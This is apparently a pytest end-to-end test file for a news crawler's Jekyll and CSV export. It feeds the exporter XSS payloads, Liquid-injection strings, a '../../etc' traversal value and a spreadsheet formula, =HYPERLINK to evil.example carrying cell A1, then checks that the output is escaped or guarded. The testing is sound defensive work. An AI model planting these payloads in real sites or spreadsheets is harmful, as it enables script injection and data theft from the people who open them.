"""Hostile values in the database → `newscrawl export --format jekyll` → `jekyll build`: nothing injected into the
built HTML, no post left out, and `newscrawl import-posts` of the export gives the values back."""
from __future__ import annotations

import json
import re
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from parsel import Selector

from newscrawl.store.db import open_db, upsert_article
from newscrawl.text.controls import strip_controls
from tests.e2e.conftest import needs_tool, rows
from tests.e2e.test_import_and_site import cli, needs_jekyll

BASE = {"url": None, "share_url": None, "media": "南通日报", "media_slug": "nantongribao", "category": "nantongribao",
        "tags": ["南通日报新闻"], "published_at": "2021-12-31T11:38:35+08:00", "source": None, "byline_raw": "",
        "content_html": "<p>正文。</p>", "content_text": "正文。", "images": [], "authors": [], "photographers": [],
        "editors": [], "organisations": [], "content_hash": "h", "char_count": 3}

XSS = [  # (field, value): every field the layouts or the post print
    ("title", '"><img src=x onerror=alert(1)>'), ("title", "</title><script>alert(2)</script>"),
    ("title", "' onmouseover='alert(3)"), ("title", "{{ site.title }} {% raw %}"),
    ("tags", ["a](javascript:alert(10))"]), ("tags", ["<svg/onload=alert(11)>", '"onmouseover="alert(12)']),
    ("category", '"><script>alert(13)</script>'), ("category", "javascript:alert(14)"), ("category", ":sym"),
    ("category", "../../etc"), ("category", "南通"),
    ("media", "<img src=x onerror=alert(15)>"), ("source", '"><script>alert(18)</script>'),
    ("byline_raw", "文：<img src=x onerror=alert(16)>\n[x](javascript:alert(17))\n{: onclick=\"alert(24)\"}"),
    ("content_html", '<p>x</p> [a](javascript:alert(19))\n\n{: onclick="alert(20)"}\n\n</div>[b](javascript:alert(21))'),
    ("content_html", "plain [c](javascript:alert(22)) <p>y</p>"),
    ("content_html", '<p><img src=x onerror=alert(25)><script>alert(26)</script><a href="javascript:alert(27)">z</a></p>'),
    ("url", 'http://x.example/"onmouseover=alert(23)'),
]
#: read by YAML as booleans, null or numbers when unquoted; a DEL, a C1 control and a BOM that YAML cannot hold raw
YAML = ["yes", "no", "true", "on", "off", "null", "2021", "0x1F", "1_000", "1.0", "~", "a\x7fb", "c\x9dd", "e\ufefff"]


def hostile_rows() -> list[dict]:
    out = [{**BASE, "id": f"NW2021123122326331{i:02d}", field: value, "title": f"xss {i}"} | (
        {"title": value} if field == "title" else {}) for i, (field, value) in enumerate(XSS)]
    out += [{**BASE, "id": f"NW2021123122326332{i:02d}", "title": v, "tags": [v], "category": v}
            for i, v in enumerate(YAML)]
    out += [{**BASE, "id": "NW202112312232633300", "title": "future", "published_at": "2099-01-01T08:00:00+08:00"},
            {**BASE, "id": "202205262391921712", "title": "dated by its code", "published_at": None},
            {**BASE, "id": "post-0123456789abcdef", "title": "no date at all", "published_at": None}]
    return out


def injected(html_text: str) -> list[str]:
    """What in a built page could run script: script/svg/iframe elements, on* attributes, javascript: URLs."""
    found = []
    for el in Selector(text=html_text).xpath("//*"):
        tag = el.root.tag
        if tag in ("script", "svg", "iframe", "object", "embed"):
            found.append(tag)
        for name, value in el.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{tag}@{name}")
            if name in ("href", "src") and re.sub(r"\s", "", value).lower().startswith(("javascript:", "data:")):
                found.append(f"{tag}@{name}={value}")
    return found


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> tuple[Path, Path, list[dict], subprocess.CompletedProcess]:
    exe = needs_jekyll()
    work = tmp_path_factory.mktemp("hostile")
    db_path = work / "news.db"
    database = open_db(db_path)
    stored = hostile_rows()
    for row in stored:
        upsert_article(database, row)
    database.close()
    out = work / "site"
    exported = cli("export", "--format", "jekyll", "--out", str(out), "--db", str(db_path))
    assert exported.returncode == 0, exported.stderr
    result = subprocess.run([exe, "build", "--source", str(out), "--destination", str(work / "_site")],
                            capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    return out, work / "_site", stored, exported


def test_nothing_is_injected_into_the_built_site(built) -> None:
    _, site, _, _ = built
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 40
    for page in pages:
        assert injected(page.read_text(encoding="utf-8")) == [], page


def test_every_dated_post_is_built_and_shows_its_values(built) -> None:
    _, site, stored, exported = built
    pages = {p.stem: p for p in site.rglob("*.html") if "category" not in p.parts}
    for row in stored:
        if row["id"] == "post-0123456789abcdef":
            assert row["id"] not in pages
            continue
        page = Selector(text=pages[row["id"]].read_text(encoding="utf-8"))
        assert page.xpath("string(//section/h1)").get() == row["title"], row["id"]
        assert page.xpath("//small[starts-with(., 'tags')]/em/text()").getall() == [
            "_".join(t.split()) for t in row["tags"]], row["id"]
        links = page.xpath("//p[@class='backlinks']/a")
        has_category = row["category"] != "~"                  # '~' leaves no letter for a category folder
        assert [a.xpath("string()").get() for a in links] == ["返回" + row["tags"][0]] * has_category + ["返回首页"]
        for a in links:                                          # the category page (and home) exist
            assert (site / a.attrib["href"].lstrip("/") / ("index.html" if a.attrib["href"] == "/" else "")).is_file()
    assert pages["202205262391921712"].parent.as_posix().endswith("/2022/05/26")
    assert "warning: 1 of" in exported.stderr and "post-0123456789abcdef" in exported.stderr
    assert exported.stdout.startswith(f"exported {len(stored)} articles")


def test_the_export_imports_back_with_the_same_values(built, tmp_path: Path) -> None:
    out, _, stored, _ = built
    again = tmp_path / "again.db"
    result = cli("import-posts", str(out), "--db", str(again), "--no-progress")
    assert result.returncode == 0, result.stdout + result.stderr[-2000:]
    back = {r["id"]: r for r in rows(again, "SELECT * FROM articles")}
    assert set(back) == {r["id"] for r in stored}
    def clean(text: str | None) -> str | None:    # import validates: control characters (DEL …) are stripped
        return strip_controls(text) if text is not None else None

    for row in stored:
        got = back[row["id"]]
        assert got["title"] == clean(row["title"]), row["id"]
        assert json.loads(got["tags"]) == [clean("_".join(t.split())) for t in row["tags"]], row["id"]
        assert got["media"] == clean(row["media"]), row["id"]
    yaml_back = {back[f"NW2021123122326332{i:02d}"]["title"] for i in range(len(YAML))}
    assert yaml_back == {clean(t) for t in YAML}
    assert back["202205262391921712"]["published_at"] == "2022-05-26T00:00:00+08:00"


# --- the CSV in a real spreadsheet: LibreOffice Calc ---------------------------------------------------------

XLSX = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
CSV_ROW = {**BASE, "id": "NW202112312232633400", "title": '=HYPERLINK("http://evil.example/?q="&A1,"点我看南通新闻")',
           "authors": ["陈静", "黄天玲", "俞新美"], "tags": ["南通日报新闻", "要闻"], "source": "+86 513 8511 0000",
           "byline_raw": "-1+2", "content_text": '他说："你好，世界"\n第二段 @SUM(1,2)'}
CSV_COLUMNS = "id,title,media,authors,tags,source,byline_raw,content_text"


def needs_soffice() -> str:
    return needs_tool("soffice", "libreoffice-calc")


def xlsx_cells(path: Path) -> dict[str, tuple[str | None, str | None]]:
    """Cell reference → (formula or None, value as the sheet holds it) of the first sheet of an .xlsx."""
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        shared = ["".join(t.text or "" for t in si.iter(f"{XLSX}t"))
                  for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).iter(f"{XLSX}si")
                  ] if "xl/sharedStrings.xml" in names else []
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for c in sheet.iter(f"{XLSX}c"):
        f, v = c.find(f"{XLSX}f"), c.find(f"{XLSX}v")
        value = v.text if v is not None else "".join(t.text or "" for t in c.iter(f"{XLSX}t")) or None
        cells[c.get("r")] = (f.text if f is not None else None, shared[int(value)] if c.get("t") == "s" else value)
    return cells


def test_csv_in_libreoffice_calc(tmp_path: Path) -> None:
    """`newscrawl export --format csv`, opened by LibreOffice Calc (UTF-8, comma; formulas evaluated, its
    command-line default): Chinese intact, lists joined with 、, no BOM in the first cell, and no cell a formula.
    The guard's ' stays the first character of a guarded cell (Calc, like Excel opening a CSV, shows it): the
    price of the guard, documented in docs/usage.md. The same row without the guard runs =HYPERLINK."""
    exe = needs_soffice()
    db_path = tmp_path / "news.db"
    database = open_db(db_path)
    upsert_article(database, CSV_ROW)
    database.close()
    for name, guard in (("guarded", "--formula-guard"), ("unguarded", "--no-formula-guard")):
        result = cli("export", "--format", "csv", "--columns", CSV_COLUMNS, "--out", str(tmp_path / f"{name}.csv"),
                     "--db", str(db_path), guard)
        assert result.returncode == 0, result.stderr
    converted = subprocess.run(
        [exe, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--infilter=CSV:44,34,76,1",
         "--convert-to", "xlsx", "--outdir", str(tmp_path / "xlsx"), str(tmp_path / "guarded.csv"),
         str(tmp_path / "unguarded.csv")], capture_output=True, text=True, timeout=120, check=False)
    assert converted.returncode == 0, converted.stdout + converted.stderr
    cells = xlsx_cells(tmp_path / "xlsx" / "guarded.xlsx")
    header = [cells[f"{col}1"][1] for col in "ABCDEFGH"]
    assert header == CSV_COLUMNS.split(",")                          # the BOM is read as such, not as text
    row = {name: cells[f"{col}2"] for name, col in zip(header, "ABCDEFGH")}
    assert [f for f, _ in row.values()] == [None] * 8                # no formula anywhere
    assert row["media"][1] == "南通日报" and row["content_text"][1] == CSV_ROW["content_text"]
    assert (row["authors"][1], row["tags"][1]) == ("陈静、黄天玲、俞新美", "南通日报新闻、要闻")
    for name in ("title", "source", "byline_raw"):                   # guarded: text, with the ' in front
        assert row[name][1] == "'" + CSV_ROW[name], name
    unguarded = xlsx_cells(tmp_path / "xlsx" / "unguarded.xlsx")
    assert unguarded["B2"][0] == 'HYPERLINK("http://evil.example/?q="&A1,"点我看南通新闻")'   # what the guard prevents


def test_ids_jekyll_slugs_alike_get_a_page_each(tmp_path: Path) -> None:
    """'a-b', 'a--b' and '-a-b' have their own files but Jekyll's slug builds them at one URL (.../a-b.html):
    each gets a page of its own, and exporting again gives the same files."""
    exe = needs_jekyll()
    database = open_db(tmp_path / "news.db")
    ids = ["a-b", "a--b", "-a-b"]
    for i in ids:
        upsert_article(database, {**BASE, "id": i, "title": f"标题 {i}"})
    database.close()
    out = tmp_path / "site"
    for _ in range(2):
        exported = cli("export", "--format", "jekyll", "--out", str(out), "--db", str(tmp_path / "news.db"))
        assert exported.returncode == 0, exported.stderr
    assert len(list((out / "_posts").iterdir())) == 3
    result = subprocess.run([exe, "build", "--source", str(out), "--destination", str(tmp_path / "_site")],
                            capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 0 and "Conflict" not in result.stdout + result.stderr, result.stdout + result.stderr
    pages = sorted((tmp_path / "_site" / "nantongribao" / "2021" / "12" / "31").glob("*.html"))
    titles = sorted(Selector(text=p.read_text(encoding="utf-8")).xpath("string(//section/h1)").get() for p in pages)
    assert titles == sorted(f"标题 {i}" for i in ids)
